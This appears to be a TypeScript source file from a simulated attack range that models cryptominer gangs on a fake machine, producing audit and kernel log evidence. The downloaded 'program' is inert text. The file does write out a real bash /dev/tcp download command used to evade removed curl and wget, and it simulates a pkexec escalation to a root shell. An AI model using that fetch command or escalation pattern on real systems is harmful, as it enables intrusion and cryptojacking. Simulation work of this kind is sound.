import type { Process } from '../../evidence/audit-calls.ts'
import type { FileTraits, Foothold } from '../../gangs/gang.ts'
import { ScriptHands } from '../../gangs/script-hands.ts'
import { ROOT } from '../../machine.ts'
import { fetchOverHttp } from '../../network/http.ts'
import { type Act, MINUTE_MS } from '../../schedule.ts'

const HTTP_PORT = 80
/** Stands where a program would: it runs nothing. */
const INERT_TEXT = '# Davylamp range: in place of a program. Inert text.\n'.repeat(40)

/** Downloads; where rivals have hidden curl and wget, through bash's own sockets, by address. */
export function* bring(foothold: Foothold, urlPath: string, path: string, traits: FileTraits): Act<boolean> {
  const { host, gang, hands, machine, random } = foothold
  if (host.mayUse('curl', gang) || host.mayUse('wget', gang))
    return yield* foothold.fetch(urlPath, path, traits)
  const { ip } = gang.traits.download
  const shell = yield* hands.builtin(
    `exec 3<>/dev/tcp/${ip}/80; printf 'GET ${urlPath} HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 > ${path}`,
  )
  machine.calls.connected(shell, ip, HTTP_PORT, false)
  yield* fetchOverHttp(machine, { host: ip, ip, path: urlPath }, INERT_TEXT, random)
  const cat = yield* hands.run(['cat'])
  return foothold.write(path, traits, cat)
}

/** Downloads the miner and makes it executable. */
export function* bringMiner(foothold: Foothold, urlPath: string): Act<boolean> {
  const { path } = foothold.gang.traits.miner
  if (!(yield* bring(foothold, urlPath, path, { what: 'miner' }))) return false
  yield* foothold.changeMode(path, 0o755)
  return true
}

/** A daemon's user may, with this chance, become root by a hole in a set-user-id program; what follows is done by that shell. */
export function* becomeRoot(foothold: Foothold, chance: number): Act<Foothold> {
  const { hands, machine, random } = foothold
  if (foothold.isRoot || !random.chance(chance)) return foothold
  const pkexec = yield* hands.run(['pkexec'])
  const shell: Process = {
    ...pkexec,
    pid: machine.nextPid(),
    ppid: pkexec.pid,
    comm: 'sh',
    exe: '/usr/bin/dash',
    args: ['/bin/sh', '-pi'],
    uid: ROOT.uid,
  }
  machine.calls.executed(shell)
  return foothold.by(new ScriptHands(machine, ROOT, shell, random.fork('root-shell')), 'root')
}

/** Starts the miner unless it runs. */
export function* startIfIdle(foothold: Foothold): Act {
  const { host, gang } = foothold
  if (host.miners.every((miner) => miner.gang !== gang)) yield* foothold.startMiner()
}

const RUNS_SHORT = 0.6
const KERNEL = 0

/** Two miners' data sets are more than this machine has: some minutes later the kernel ends one of them. */
export function memoryRunsShort(foothold: Foothold): void {
  const { host, machine, random } = foothold
  if (host.miners.length < 2 || !random.chance(RUNS_SHORT)) return
  machine.schedule.at(machine.nowMs + random.between(2, 50) * MINUTE_MS, () => {
    const victim = host.miners[random.integer(0, Math.max(0, host.miners.length - 1))]
    if (victim === undefined || host.miners.length < 2) return
    const { pid, comm, uid } = victim.process
    const kilobytes = random.integer(2_300_000, 2_490_000)
    machine.tell({
      kind: 'system-line',
      timeMs: machine.nowMs,
      identifier: 'kernel',
      pid: null,
      severity: 3,
      facility: KERNEL,
      message: `Out of memory: Killed process ${pid} (${comm}) total-vm:${kilobytes + 120_000}kB, anon-rss:${kilobytes}kB, file-rss:0kB, shmem-rss:0kB, UID:${uid} pgtables:5040kB oom_score_adj:0`,
    })
    host.endMiner(victim, null, 9)
  })
}
